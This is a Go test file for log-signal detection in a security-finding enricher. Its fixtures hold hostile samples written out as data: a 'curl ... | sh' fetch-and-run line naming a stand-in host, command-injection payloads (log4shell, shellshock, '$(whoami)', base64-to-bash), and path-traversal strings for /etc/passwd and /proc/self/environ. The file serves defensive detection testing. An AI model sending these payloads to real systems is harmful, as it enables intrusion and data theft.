package evidence

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/scc-enricher/scc-enricher/pkg/finding"
)

var event = time.Date(2026, 3, 3, 12, 0, 0, 0, time.UTC)

func app(text string) LogEntry {
	return LogEntry{Kind: LogApp, Time: event, Text: text}
}

func system(text string) LogEntry {
	return LogEntry{Kind: LogSystem, Time: event, Text: text}
}

func request(before time.Duration, method, url string, status int) LogEntry {
	return LogEntry{Kind: LogRequest, Time: event.Add(-before), Request: &Request{
		Method: method, URL: "https://shop.example.com" + url, Status: status, RemoteIP: "198.51.100.7", UserAgent: "Mozilla/5.0",
	}}
}

func agent(ua string) LogEntry {
	e := request(time.Minute, "GET", "/", 200)
	e.Request.UserAgent = ua
	return e
}

func audit(before time.Duration, method string) LogEntry {
	return LogEntry{Kind: LogAudit, Time: event.Add(-before), Audit: &Audit{Method: method, Principal: "dev@example.com"}}
}

func failed(e LogEntry) LogEntry {
	e.Audit.Code = 7
	return e
}

func ready(before time.Duration, revision string, ok bool) LogEntry {
	e := audit(before, "/Services.ReplaceService")
	e.Audit.System, e.Audit.Principal, e.Audit.Revision = true, "", revision
	if e.Audit.Message = "Ready condition status changed to True for Revision " + revision; !ok {
		e.Audit.Message, e.Audit.Code = "Ready condition status changed to False for Revision "+revision, 9
	}
	return e
}

func attack() *finding.Finding {
	root := int64(0)
	return &finding.Finding{
		EventTime: event,
		Indicator: finding.Indicator{IPs: []string{"203.0.113.66", "127.0.0.1"}, Domains: []string{"evil.example.net"}},
		Processes: []finding.Process{
			{PID: 1, Name: "java", Binary: &finding.File{Path: "/usr/bin/java"}},
			{PID: 2, ParentPID: 1, Name: "orders-api", Binary: &finding.File{Path: "/app/orders-api"}},
			{PID: 9, ParentPID: 2, Name: "kdevtmpfsi", Binary: &finding.File{Path: "/tmp/kdevtmpfsi"}, UserID: &root,
				Script: &finding.File{Path: "/dev/shm/x.sh"}, Args: []string{"sh", "-c", "curl http://drop.example.org/a | sh"}},
		},
	}
}

func TestSignalsOfOneEntry(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name  string
		entry LogEntry
		want  []string
	}{
		{"id", app("uid=0(root) gid=0(root) groups=0(root)"), []string{SignalShellOutput}},
		{"user named in prose", app("uid=42 logged in, gid=7"), nil},
		{"passwd", app("root:x:0:0:root:/root:/bin/bash"), []string{SignalShellOutput}},
		{"dash", app("sh: 1: nc: not found"), []string{SignalShellOutput}},
		{"busybox", app("/bin/sh: curl: not found"), []string{SignalShellOutput}},
		{"bash", app("bash: wget: command not found"), []string{SignalShellOutput}},
		{"word that ends in sh", app("publish: topic: not found"), nil},
		{"shell path alone", app("exec /bin/sh -c 'node server.js'"), nil},
		{"no job control", app("bash: no job control in this shell"), []string{SignalShellOutput}},
		{"coreutils", app("base64: f0VMRgIB: No such file or directory"), []string{SignalShellOutput}},
		{"application file error", app("open config.yaml: no such file or directory"), nil},
		{"wget", app("--2026-03-01 12:00:00--  http://203.0.113.1/x.sh"), []string{SignalShellOutput}},
		{"busybox wget", app("Connecting to 203.0.113.1 (203.0.113.1:80)"), []string{SignalShellOutput}},
		{"connecting to a database", app("Connecting to db:5432"), nil},
		{"curl", app("  % Total    % Received % Xferd  Average Speed"), []string{SignalShellOutput}},
		{"curl error", app("curl: (6) Could not resolve host: x"), []string{SignalShellOutput}},
		{"curl mentioned", app("use curl (or wget) to fetch"), nil},
		{"uname", app("Linux localhost 4.4.0 #1 SMP x86_64 GNU/Linux"), []string{SignalShellOutput}},
		{"linux mentioned", app("running on linux 6.1"), nil},
		{"ls", app("-rwxr-xr-x 1 root root 1234 Mar  1 12:00 x"), []string{SignalShellOutput}},
		{"ps", app("  PID TTY          TIME CMD"), []string{SignalShellOutput}},
		{"pid mentioned", app("Booting worker with pid: 5"), nil},

		{"xmrig", app(" * ABOUT        XMRig/6.21.0 gcc/11.2.0"), []string{SignalToolOutput}},
		{"stratum", app("connect stratum+tcp://pool.example:3333"), []string{SignalToolOutput}},
		{"job", app("net      new job from pool.example.com:3333 diff 100001 algo rx/0"), []string{SignalToolOutput}},
		{"new job of a queue", app("new job from queue orders diff=2"), nil},
		{"nmap", app("Nmap scan report for 10.0.0.1"), []string{SignalToolOutput}},
		{"masscan", app("Discovered open port 22/tcp on 10.0.0.1"), []string{SignalToolOutput}},
		{"nc", app("listening on [any] 4444 ..."), []string{SignalToolOutput}},
		{"server start", app("Listening at: http://0.0.0.0:8000 (1)"), nil},

		{"python trace", app("Traceback (most recent call last):\n  File \"a.py\""), []string{SignalStackTrace}},
		{"node trace", app("Error: x\n    at Parser.parse (/app/parser.js:285:98)"), []string{SignalStackTrace}},
		{"java trace", app("\tat com.example.Main.run(Main.java:12)"), []string{SignalStackTrace}},
		{"go trace", app("panic: boom\n\ngoroutine 1 [running]:"), []string{SignalStackTrace}},
		{"rust trace", app("thread 'main' panicked at src/main.rs:2:5:"), []string{SignalStackTrace}},
		{"ruby trace", app("/app/a.rb:12:in `run'"), []string{SignalStackTrace}},
		{"php trace", app("PHP Fatal error:  Uncaught Exception"), []string{SignalStackTrace}},
		{"arrival", app("Arrived at (gate 3:12)"), nil},

		{"severity", LogEntry{Kind: LogApp, Severity: "CRITICAL", Text: "x"}, []string{SignalError}},
		{"warning", LogEntry{Kind: LogApp, Severity: "WARNING", Text: "x"}, nil},
		{"failed request is no error entry", LogEntry{Kind: LogRequest, Severity: "ERROR", Request: &Request{Status: 503}}, []string{SignalHTTP5xx}},

		{"binary", app("started ./kdevtmpfsi"), []string{SignalProcessNameSeen}},
		{"script path", app("running /dev/shm/x.sh now"), []string{SignalProcessNameSeen}},
		{"part of a word", app("kdevtmpfsi2000"), nil},
		{"parent's name", app("orders-api ready, java 21"), nil},
		{"indicator", app("callback to 203.0.113.66:4444"), []string{SignalIndicatorSeen}},
		{"longer address", app("callback to 203.0.113.660"), nil},
		{"address inside another", app("1203.0.113.66 bytes"), nil},
		{"subdomain", app("GET https://a.evil.example.net/"), []string{SignalIndicatorSeen}},
		{"longer domain", app("evil.example.net.au"), nil},
		{"host of an argument", app("resolving drop.example.org."), []string{SignalIndicatorSeen}},
		{"loopback is no indicator", app("listening on 127.0.0.1"), nil},
		{"client", LogEntry{Kind: LogRequest, Request: &Request{RemoteIP: "203.0.113.66", Status: 200}}, []string{SignalIndicatorSeen}},
		{"audit client", LogEntry{Kind: LogAudit, Audit: &Audit{CallerIP: "203.0.113.66"}}, []string{SignalIndicatorSeen}},
		{"encoded in the URL", request(0, "GET", "/?u=http%253A%252F%252Fevil.example.net", 200), []string{SignalIndicatorSeen}},

		{"server error", request(0, "GET", "/", 503), []string{SignalHTTP5xx}},
		{"client error", request(0, "GET", "/x", 404), []string{SignalHTTP4xx}},
		{"fine", request(0, "GET", "/orders?id=5&cat=food&ls=1", 200), nil},

		{"semicolon", request(0, "GET", "/ping?host=1.1.1.1;id", 200), []string{SignalCommandInjection}},
		{"encoded twice", request(0, "GET", "/ping?host=1.1.1.1%253Bcat%2520/var/log/x", 200), []string{SignalCommandInjection}},
		{"substitution", request(0, "GET", "/?q=$(whoami)", 200), []string{SignalCommandInjection}},
		{"pipe to shell", request(0, "GET", "/?q=a%7Cbase64+-d%7Cbash", 200), []string{SignalCommandInjection}},
		{"newline", request(0, "GET", "/?q=a%0Awget+http://x", 200), []string{SignalCommandInjection}},
		{"log4shell", agent("${jndi:ldap://x.example/a}"), []string{SignalCommandInjection}},
		{"shellshock", agent("() { :;}; /bin/id"), []string{SignalCommandInjection}},
		{"template", request(0, "GET", "/?name={{7*7}}", 200), []string{SignalCommandInjection}},
		{"java expression", request(0, "GET", "/?x=T(java.lang.Runtime).getRuntime().exec(1)", 200), []string{SignalCommandInjection}},
		{"prose with a semicolon", request(0, "GET", "/?q=red;+cat+food", 200), nil},
		{"prose with an ampersand", request(0, "GET", "/?q=R%26D+id+cards+%26+ls+cables", 200), nil},
		{"languages", request(0, "GET", "/?langs=go;python;perl", 200), nil},
		{"browser", agent("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)"), nil},

		{"dot dot", request(0, "GET", "/static/../../app/secret", 400), []string{SignalPathTraversal, SignalHTTP4xx}},
		{"encoded dot dot", request(0, "GET", "/f?p=..%252f..%252fapp", 200), []string{SignalPathTraversal}},
		{"passwd by name", request(0, "GET", "/f?p=/etc/passwd", 200), []string{SignalPathTraversal}},
		{"environment", request(0, "GET", "/f?p=file:///proc/self/environ", 200), []string{SignalPathTraversal}},
		{"one step up", request(0, "GET", "/a?next=../home", 200), nil},
		{"dots in a name", request(0, "GET", "/a...b/c..d", 200), nil},

		{"upload", request(time.Minute, "POST", "/api/file-upload", 200), []string{SignalUpload}},
		{"web shell", request(time.Minute, "PUT", "/images/a.jsp", 201), []string{SignalUpload}},
		{"refused upload", request(time.Minute, "POST", "/upload", 403), []string{SignalHTTP4xx}},
		{"reading uploads", request(time.Minute, "GET", "/uploads/1", 200), nil},
		{"upload long before", request(time.Hour, "POST", "/upload", 200), nil},
		{"upload after", request(-time.Minute, "POST", "/upload", 200), nil},

		{"sqlmap", agent("sqlmap/1.7#stable"), []string{SignalScannerAgent}},
		{"python-httpx", agent("python-httpx/0.27"), nil},

		{"oom", system("Memory limit of 512 MiB exceeded with 530 MiB used. Consider increasing the memory limit"), []string{SignalOOM}},
		{"heap", app("FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory"), []string{SignalOOM}},
		{"memory mentioned", app("memory usage 40%"), nil},
		{"exit", system("Container called exit(137)."), []string{SignalCrash}},
		{"exit 0", system("Container called exit(0)."), nil},
		{"signal", system("Container terminated on signal 11."), []string{SignalCrash}},
		{"sigterm", system("Container terminated on signal 15."), nil},
		{"segv", app("Segmentation fault (core dumped)"), []string{SignalCrash}},
		{"no start", system("terminated: Application failed to start: no such file"), []string{SignalCrash}},
		{"restart", system("Starting new instance. Reason: AUTOSCALING"), []string{SignalRestart}},
		{"probe succeeded", system("Default STARTUP TCP probe succeeded after 1 attempt"), nil},

		{"deploy v1", audit(time.Hour, "google.cloud.run.v1.Services.ReplaceService"), []string{SignalDeploy}},
		{"deploy v2", audit(time.Hour, "google.cloud.run.v2.WorkerPools.UpdateWorkerPool"), []string{SignalDeploy}},
		{"refused deploy", failed(audit(time.Hour, "google.cloud.run.v2.Services.UpdateService")), nil},
		{"delete", audit(time.Hour, "google.cloud.run.v2.Services.DeleteService"), nil},
		{"ready", ready(time.Hour, "shop-2", true), []string{SignalDeploy}},
		{"not ready", ready(time.Hour, "shop-2", false), nil},
		{"policy", audit(time.Hour, "google.cloud.run.v1.Services.SetIamPolicy"), []string{SignalIAMChange}},
		{"refused policy", failed(audit(time.Hour, "google.cloud.run.v1.Services.SetIamPolicy")), nil},
		{"policy read", audit(time.Hour, "google.cloud.run.v1.Services.GetIamPolicy"), nil},
		{"job run", audit(time.Hour, "google.cloud.run.v1.Jobs.RunJob"), []string{SignalJobRun}},
		{"audit without payload", LogEntry{Kind: LogAudit}, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			var got []string
			for _, s := range Signals(Logs{Entries: []LogEntry{tc.entry}}, attack()) {
				got = append(got, s.Kind)
				if diff := cmp.Diff(Signal{Kind: s.Kind, Count: 1, Entries: []int{0}}, s); diff != "" {
					t.Errorf("signal (-want +got):\n%s", diff)
				}
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("Signals(%+v) (-want +got):\n%s", tc.entry, diff)
			}
		})
	}
}

func TestSignalsEveryKindIsListedOnce(t *testing.T) {
	t.Parallel()
	kinds := SignalKinds()
	slices.Sort(kinds)
	if got := slices.Compact(slices.Clone(kinds)); len(got) != len(kinds) || len(kinds) != 22 {
		t.Errorf("SignalKinds() = %q", kinds)
	}
}

func TestProbeThenHit(t *testing.T) {
	t.Parallel()
	scan := func(paths ...string) []LogEntry {
		var out []LogEntry
		for _, p := range paths {
			out = append(out, request(time.Minute, "GET", p, 404))
		}
		return out
	}
	other := request(time.Second, "GET", "/", 200)
	other.Request.RemoteIP = "192.0.2.1"
	probe := scan("/.env", "/wp-login.php", "/admin", "/.git/config", "/backup.zip")
	for _, tc := range []struct {
		name    string
		entries []LogEntry
		want    int
	}{
		{"probe then hit", append(slices.Clone(probe), request(time.Second, "GET", "/actuator/env", 200)), 1},
		{"hit before the probe", append([]LogEntry{request(time.Hour, "GET", "/", 200)}, probe...), 0},
		{"another client's success", append(slices.Clone(probe), other), 0},
		{"a few misses", append(scan("/.env", "/wp-login.php", "/admin", "/backup.zip"), request(time.Second, "GET", "/", 200)), 0},
		{"missing pictures", append(scan("/a.png", "/b.png", "/c.css", "/d.js", "/e.ico", "/f.svg"), request(0, "GET", "/", 200)), 0},
		{"one path again and again", append(scan("/a", "/a", "/a", "/a", "/a"), request(0, "GET", "/", 200)), 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			got := 0
			for _, s := range Signals(Logs{Entries: tc.entries}, nil) {
				if s.Kind == SignalProbeThenHit {
					got = s.Count
				}
			}
			if got != tc.want {
				t.Errorf("probe_then_hit counts %d, want %d", got, tc.want)
			}
		})
	}
}

func TestSignalsOrderAndNearestEntries(t *testing.T) {
	t.Parallel()
	l := Logs{Event: event}
	for i := range 20 {
		e := app("x")
		e.Severity, e.Time = "ERROR", event.Add(time.Duration(i-10)*time.Minute)
		l.Entries = append(l.Entries, e)
	}
	l.Entries = append(l.Entries, app("uid=0(root) gid=0(root)"))
	want := []Signal{
		{Kind: SignalShellOutput, Count: 1, Entries: []int{20}},
		{Kind: SignalError, Count: 20, Entries: []int{8, 9, 10, 11, 12}},
	}
	if diff := cmp.Diff(want, Signals(l, nil)); diff != "" {
		t.Errorf("Signals (-want +got):\n%s", diff)
	}
}

func TestSignalsReadRequestsOfTheApplicationOnlyWithoutRequestLog(t *testing.T) {
	t.Parallel()
	own := request(0, "GET", "/", 500)
	own.Kind = LogApp
	count := func(entries ...LogEntry) int {
		for _, s := range Signals(Logs{Entries: entries}, nil) {
			if s.Kind == SignalHTTP5xx {
				return s.Count
			}
		}
		return 0
	}
	if got := count(own, request(0, "GET", "/", 500)); got != 1 {
		t.Errorf("with a request log: %d, want 1", got)
	}
	if got := count(own); got != 1 {
		t.Errorf("without a request log: %d, want 1", got)
	}
}

func TestExcerpt(t *testing.T) {
	t.Parallel()
	l := Logs{Entries: []LogEntry{app("0"), app("1"), app("2"), app("3")}}
	sigs := []Signal{{Kind: SignalShellOutput, Entries: []int{3, 2}}, {Kind: SignalError, Entries: []int{0, 9}}}
	for _, tc := range []struct {
		limit int
		want  string
	}{{0, ""}, {1, "3"}, {2, "03"}, {9, "023"}} {
		got := ""
		for _, e := range Excerpt(l, sigs, tc.limit) {
			got += e.Text
		}
		if got != tc.want {
			t.Errorf("Excerpt(limit %d) = %q, want %q", tc.limit, got, tc.want)
		}
	}
}

func TestEntryRequest(t *testing.T) {
	t.Parallel()
	from := func(e LogEntry, ip string, latency time.Duration) LogEntry {
		r := *e.Request
		r.RemoteIP, r.Latency = ip, latency
		e.Request = &r
		return e
	}
	inject := request(20*time.Second, "POST", "/ping?host=1.1.1.1;id", 200)
	for _, tc := range []struct {
		name    string
		entries []LogEntry
		want    int
	}{
		{"none", nil, -1},
		{"injection among others", []LogEntry{request(time.Minute, "GET", "/", 200), inject, request(30*time.Second, "GET", "/", 200)}, 1},
		{"the last of one attacker's", []LogEntry{inject, inject}, 1},
		{"two attackers", []LogEntry{inject, from(inject, "192.0.2.9", 0)}, -1},
		{"too long before", []LogEntry{request(time.Hour, "POST", "/ping?host=1.1.1.1;id", 200)}, -1},
		{"after the event", []LogEntry{request(-time.Minute, "POST", "/ping?host=1.1.1.1;id", 200)}, -1},
		{"being served at the time", []LogEntry{from(request(20*time.Second, "POST", "/run", 200), "192.0.2.9", time.Minute), request(25*time.Second, "GET", "/", 200)}, 0},
		{"ordinary traffic", []LogEntry{request(30*time.Second, "GET", "/", 200), request(20*time.Second, "GET", "/a", 200)}, -1},
		{"upload", []LogEntry{request(15*time.Second, "POST", "/upload", 200)}, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			got, ok := EntryRequest(Logs{Entries: tc.entries}, event)
			if ok != (tc.want >= 0) {
				t.Fatalf("EntryRequest = %+v, %v; want index %d", got, ok, tc.want)
			}
			if ok {
				if diff := cmp.Diff(tc.entries[tc.want], got); diff != "" {
					t.Errorf("EntryRequest (-want +got):\n%s", diff)
				}
			}
		})
	}
}

func TestLastDeploy(t *testing.T) {
	t.Parallel()
	call := func(before time.Duration) LogEntry {
		return audit(before, "google.cloud.run.v1.Services.ReplaceService")
	}
	for _, tc := range []struct {
		name      string
		entries   []LogEntry
		time      time.Duration
		principal string
		revision  string
		ok        bool
	}{
		{name: "none"},
		{name: "revision of the system event", entries: []LogEntry{call(3 * time.Hour), call(time.Hour), ready(59*time.Minute, "shop-2", true)},
			time: time.Hour, principal: "dev@example.com", revision: "shop-2", ok: true},
		{name: "failed rollout is passed over", entries: []LogEntry{call(3 * time.Hour), ready(179*time.Minute, "shop-1", true), call(time.Hour), ready(59*time.Minute, "shop-2", false)},
			time: 3 * time.Hour, principal: "dev@example.com", revision: "shop-1", ok: true},
		{name: "after the event", entries: []LogEntry{call(-time.Minute)}},
		{name: "refused", entries: []LogEntry{failed(call(time.Hour))}},
		{name: "job run is no deploy", entries: []LogEntry{audit(time.Minute, "google.cloud.run.v2.Jobs.RunJob")}},
		{name: "only system events", entries: []LogEntry{ready(time.Hour, "shop-2", true)}, time: time.Hour, revision: "shop-2", ok: true},
		{name: "another deploy's revision", entries: []LogEntry{call(2 * time.Hour), ready(time.Hour, "shop-9", true)},
			time: 2 * time.Hour, principal: "dev@example.com", ok: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			got, ok := LastDeploy(Logs{Event: event, Entries: tc.entries})
			if ok != tc.ok {
				t.Fatalf("LastDeploy = %+v, %v; want %v", got, ok, tc.ok)
			}
			if !ok {
				return
			}
			if !got.Time.Equal(event.Add(-tc.time)) || got.Audit.Principal != tc.principal || got.Audit.Revision != tc.revision {
				t.Errorf("LastDeploy = %v by %q revision %q", got.Time, got.Audit.Principal, got.Audit.Revision)
			}
		})
	}
}

func TestDeployOf(t *testing.T) {
	t.Parallel()
	call := func(before time.Duration, by, revision string) LogEntry {
		e := audit(before, "google.cloud.run.v1.Services.ReplaceService")
		e.Audit.Principal, e.Audit.Revision = by, revision
		return e
	}
	rev := func(before time.Duration, by string) *Config {
		return &Config{Revision: "shop-3", RevisionSource: "traffic", RevisionCreator: by, RevisionCreateTime: event.Add(-before)}
	}
	template := rev(time.Hour, "bob@example.com")
	template.RevisionSource = "template"
	deploy := func(before time.Duration, by, revision, source string) Deploy {
		return Deploy{Time: event.Add(-before), Principal: by, Revision: revision, FromLogs: source == "logs"}
	}
	const carol, bob = "carol@example.com", "bob@example.com"
	for _, tc := range []struct {
		name    string
		kind    finding.Kind
		entries []LogEntry
		cfg     *Config
		want    Deploy
	}{
		{name: "nothing"},
		{name: "the later revision of another", entries: []LogEntry{call(20*time.Hour, carol, "")}, cfg: rev(3*time.Hour, bob), want: deploy(3*time.Hour, bob, "shop-3", "config")},
		{name: "the later call", entries: []LogEntry{call(time.Hour, carol, "")}, cfg: rev(3*time.Hour, bob), want: deploy(time.Hour, carol, "", "logs")},
		{name: "the call that made the revision", entries: []LogEntry{call(time.Hour, carol, "")}, cfg: rev(59*time.Minute, carol), want: deploy(time.Hour, carol, "shop-3", "logs")},
		{name: "the revision has no creator", entries: []LogEntry{call(time.Hour, carol, "")}, cfg: rev(59*time.Minute, ""), want: deploy(time.Hour, carol, "shop-3", "logs")},
		{name: "the entry has no principal", entries: []LogEntry{call(time.Hour, "", "")}, cfg: rev(time.Hour, bob), want: deploy(time.Hour, bob, "shop-3", "logs")},
		{name: "two people within minutes", entries: []LogEntry{call(time.Hour, carol, "")}, cfg: rev(58*time.Minute, bob), want: deploy(58*time.Minute, bob, "shop-3", "config")},
		{name: "the entry names another revision", entries: []LogEntry{call(time.Hour, bob, "shop-4")}, cfg: rev(time.Hour+time.Minute, bob), want: deploy(time.Hour, bob, "shop-4", "logs")},
		{name: "more than ten minutes apart", entries: []LogEntry{call(time.Hour, bob, "")}, cfg: rev(time.Hour+11*time.Minute, bob), want: deploy(time.Hour, bob, "", "logs")},
		{name: "a template has no deploy time", cfg: template},
		{name: "a revision after the event", cfg: rev(-time.Minute, bob)},
		{name: "an execution is no deploy", kind: finding.Job, entries: []LogEntry{audit(time.Minute, "google.cloud.run.v2.Jobs.RunJob")}, cfg: rev(time.Minute, bob)},
		{name: "a job is deployed", kind: finding.Job, entries: []LogEntry{audit(time.Hour, "google.cloud.run.v2.Jobs.UpdateJob")}, cfg: rev(time.Minute, bob), want: deploy(time.Hour, "dev@example.com", "", "logs")},
	} {
		got, ok := DeployOf(Logs{Event: event, Entries: tc.entries}, tc.cfg, tc.kind, event)
		if diff := cmp.Diff(tc.want, got); diff != "" || ok != !tc.want.Time.IsZero() {
			t.Errorf("%s: %v (-want +got):\n%s", tc.name, ok, diff)
		}
	}
	if _, ok := DeployOf(Logs{}, rev(time.Hour, bob), "", time.Time{}); ok {
		t.Error("a deploy before an unknown time")
	}
}

func TestLogsURL(t *testing.T) {
	t.Parallel()
	q := LogQuery{
		Workload: finding.Workload{Project: "p-1", Location: "europe-west1", Kind: finding.Service, Name: `a" OR "b;c?d`},
		Event:    event, Before: 10 * time.Minute, After: 2 * time.Minute,
	}
	want := "https://console.cloud.google.com/logs/query;query=resource.type%3D%22cloud_run_revision%22%0A" +
		"resource.labels.service_name%3D%22a%5C%22%20OR%20%5C%22b%3Bc%3Fd%22%0Aresource.labels.location%3D%22europe-west1%22" +
		";startTime=2026-03-03T11%3A50%3A00Z;endTime=2026-03-03T12%3A02%3A00Z?project=p-1"
	if diff := cmp.Diff(want, LogsURL(q)); diff != "" {
		t.Errorf("LogsURL (-want +got):\n%s", diff)
	}
	if got := LogsURL(LogQuery{}); got != "" {
		t.Errorf("LogsURL of nothing = %q", got)
	}
}

func FuzzSignals(f *testing.F) {
	f.Add("uid=0(root) gid=0(root)", "/a?b=%25253Bid", "() { :;}; x")
	f.Add("sh: 1: x: not found", "/%2", strings.Repeat("../", 9))
	f.Fuzz(func(_ *testing.T, text, url, ua string) {
		r := request(time.Second, "PUT", url, 200)
		r.Request.UserAgent = ua
		l := Logs{Event: event, Entries: []LogEntry{app(text), system(text), r}}
		sigs := Signals(l, attack())
		Excerpt(l, sigs, 3)
		EntryRequest(l, event)
		LastDeploy(l)
	})
}

func BenchmarkSignals(b *testing.B) {
	l := Logs{Event: event}
	for range 250 {
		l.Entries = append(l.Entries, app(strings.Repeat("an ordinary line of an application ", 6)), request(time.Minute, "GET", "/orders/17?page=2&sort=asc", 200))
	}
	f := attack()
	for b.Loop() {
		Signals(l, f)
	}
}
